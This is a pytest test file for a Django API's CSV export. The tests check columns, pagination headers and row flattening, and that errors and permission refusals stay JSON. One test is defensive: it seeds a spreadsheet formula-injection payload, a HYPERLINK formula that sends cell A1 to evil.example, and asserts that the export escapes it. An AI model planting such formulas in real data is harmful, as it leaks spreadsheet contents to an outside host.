"""`?format=csv` on every list and aggregate: the JSON's fields as columns, nested lists
spread into rows, and nothing a spreadsheet would run as a formula."""

import csv
import io

import pytest

from tests import factories
from tests.api.conftest import OPEN_ROUND

pytestmark = pytest.mark.django_db

LISTS = [
    "/api/v1/countries/",
    "/api/v1/working-groups/",
    "/api/v1/stakeholder-types/",
    "/api/v1/mirror-groups/",
    "/api/v1/surveys/",
    f"/api/v1/surveys/{OPEN_ROUND}/responses/",
    "/api/v1/experts/",
]
AGGREGATES = [
    f"/api/v1/surveys/{OPEN_ROUND}/summary/",
    f"/api/v1/surveys/nmg-survey-2020/compare/{OPEN_ROUND}/",
    "/api/v1/compositions/summary/",
    "/api/v1/targets/",
    "/api/v1/configuration-models/",
]


def read_csv(response) -> list[dict]:
    assert response.status_code == 200, response.content
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    text = response.content.decode("utf-8")
    assert text.startswith("\ufeff"), "a BOM, so that Excel reads accents right"
    return list(csv.DictReader(io.StringIO(text[1:])))


def header(response) -> list[str]:
    return next(csv.reader(io.StringIO(response.content.decode("utf-8")[1:])))


@pytest.fixture
def staff(as_user, registry):
    return as_user("staff")


@pytest.mark.parametrize("url", LISTS + AGGREGATES)
def test_every_list_and_aggregate_answers_csv_with_the_jsons_fields(staff, url):
    as_json = staff.get(url).json()
    as_csv = staff.get(url, {"format": "csv"})

    rows = read_csv(as_csv)
    assert rows
    columns = header(as_csv)
    records = as_json.get("results", as_json) if isinstance(as_json, dict) else as_json
    record = records[0] if isinstance(records, list) else records
    if "countries" in record and url.endswith(("compositions/summary/", "configuration-models/")):
        record = record["countries"][0]  # these aggregates are one row per country
    for field in record:
        assert field in columns or any(c.startswith(f"{field}.") for c in columns), field


def test_a_list_as_csv_is_the_page_with_its_total_and_links_in_headers(staff):
    response = staff.get("/api/v1/countries/", {"format": "csv", "limit": 10, "offset": 10})

    rows = read_csv(response)
    assert [row["code"] for row in rows][:2] == ["ES", "FI"]
    assert len(rows) == 10
    assert response["X-Total-Count"] == "31"
    assert response["Link"] == (
        '<http://testserver/api/v1/countries/?format=csv&limit=10&offset=20>; rel="next", '
        '<http://testserver/api/v1/countries/?format=csv&limit=10>; rel="previous"'
    )
    assert response["Content-Disposition"] == 'attachment; filename="countries.csv"'


def test_experts_as_csv_are_one_row_per_seat(staff):
    rows = read_csv(staff.get("/api/v1/experts/", {"format": "csv"}))

    assert [(r["name"], r["memberships.working_group"], r["memberships.role"]) for r in rows] == [
        ("Ana Espinosa", "1", "coordinator"),
        ("Ana Espinosa", "3", "expert"),
        ("Bruno Italiano", "3", "coordinator"),
    ]
    assert rows[0]["stakeholder_type"] == "research-university"
    assert rows[0]["memberships.mirror_group"] == ""


def test_formulas_typed_into_a_record_are_neutralised(as_user, registry):
    factories.MembershipFactory(
        expert__country=registry.cast.es,
        expert__name='=HYPERLINK("https://evil.example/?"&A1,"Click")',
        expert__institution="+34 Hospital",
        expert__position="@SUM(1+1)",
        expert__region="-2+3",
    )

    rows = read_csv(as_user("rep_es").get("/api/v1/experts/", {"format": "csv"}))

    evil = next(r for r in rows if "HYPERLINK" in r["name"])
    assert evil["name"] == '\'=HYPERLINK("https://evil.example/?"&A1,"Click")'
    assert evil["institution"] == "'+34 Hospital"
    assert evil["position"] == "'@SUM(1+1)"
    assert evil["region"] == "'-2+3"


def test_an_empty_list_as_csv_still_has_its_header(as_user, registry):
    response = as_user("rep_es").get("/api/v1/experts/", {"format": "csv", "country": "IT"})

    assert read_csv(response) == []
    assert header(response) == [
        "country",
        "name",
        "institution",
        "position",
        "gender",
        "region",
        "email",
        "stakeholder_type",
        "updated_at",
        "memberships.working_group",
        "memberships.mirror_group",
        "memberships.role",
    ]


def test_responses_as_csv_are_one_row_per_answer(staff):
    rows = read_csv(staff.get(f"/api/v1/surveys/{OPEN_ROUND}/responses/?format=csv"))

    assert [
        (r["country"], r["status"], r["answers.question"], r["answers.value"]) for r in rows
    ] == [
        ("EL", "submitted", "nmg_stage", "constructing"),
        ("EL", "submitted", "notes", "Ellinikí apántisi"),
        ("ES", "draft", "notes", "Borrador secreto de ES"),
        ("IT", "draft", "notes", "Bozza segreta di IT"),
    ]


def test_a_round_as_csv_is_one_row_per_option_and_per_text_question(staff):
    rows = read_csv(staff.get(f"/api/v1/surveys/{OPEN_ROUND}/?format=csv"))

    assert [(r["questions.code"], r["questions.options.value"]) for r in rows] == [
        ("nmg_stage", "planning"),
        ("nmg_stage", "constructing"),
        ("nmg_stage", "operational"),
        ("notes", ""),
    ]
    assert rows[0]["invited_countries"] == "EL; ES; IT"


def test_the_survey_summary_as_csv_is_one_row_per_option(staff):
    rows = read_csv(staff.get(f"/api/v1/surveys/{OPEN_ROUND}/summary/?format=csv"))

    assert [
        (
            r["questions.code"],
            r["questions.answered"],
            r["questions.options.value"],
            r["questions.options.count"],
            r["questions.options.share"],
        )
        for r in rows
    ] == [
        ("nmg_stage", "1", "planning", "0", "0.0"),
        ("nmg_stage", "1", "constructing", "1", "1.0"),
        ("nmg_stage", "1", "operational", "0", "0.0"),
        ("notes", "1", "", "", ""),
    ]
    assert {(r["survey"], r["invited"], r["respondents"]) for r in rows} == {(OPEN_ROUND, "3", "1")}
    assert rows[0]["non_respondent_countries"] == "ES; IT"


def test_the_composition_summary_as_csv_is_one_row_per_country_without_names(staff):
    response = staff.get("/api/v1/compositions/summary/?format=csv")

    rows = read_csv(response)
    assert [(r["country"], r["experts"], r["memberships"]) for r in rows] == [
        ("ES", "1", "2"),
        ("IT", "1", "1"),
    ]
    assert rows[0]["working_groups"] == "1; 3"
    assert rows[0]["stakeholder_counts.research-university"] == "1"
    assert rows[1]["gender.male"] == "1"
    assert rows[0]["covers_all_working_groups"] == "false"
    assert "Ana Espinosa" not in response.content.decode()


def test_targets_as_csv_are_one_row_per_target_and_round(staff):
    rows = read_csv(staff.get("/api/v1/targets/?format=csv"))

    assert [(r["slug"], r["rounds.survey"]) for r in rows] == [
        ("constructing-nmgs-2021", "nmg-survey-2020"),
        ("constructing-nmgs-2021", OPEN_ROUND),
        ("operational-nmgs-2021", "nmg-survey-2020"),
        ("operational-nmgs-2021", OPEN_ROUND),
    ]
    assert rows[0]["answer_values"] == "constructing; operational"


@pytest.mark.parametrize(
    "url",
    [
        "/api/v1/countries/?format=csv&participation=maybe",
        "/api/v1/countries/XX/?format=csv",
        "/api/v1/experts/?format=csv&limit=none",
        "/api/v1/surveys/nmg-survey-1999/summary/?format=csv",
    ],
)
def test_errors_stay_json_when_csv_is_asked_for(staff, url):
    response = staff.get(url)

    assert response.status_code in (400, 404)
    assert response["Content-Type"] == "application/json"
    assert "detail" in response.json()


def test_a_refusal_stays_json_when_csv_is_asked_for(as_user, registry):
    response = as_user("viewer").get("/api/v1/experts/?format=csv")

    assert response.status_code == 403
    assert response["Content-Type"] == "application/json"
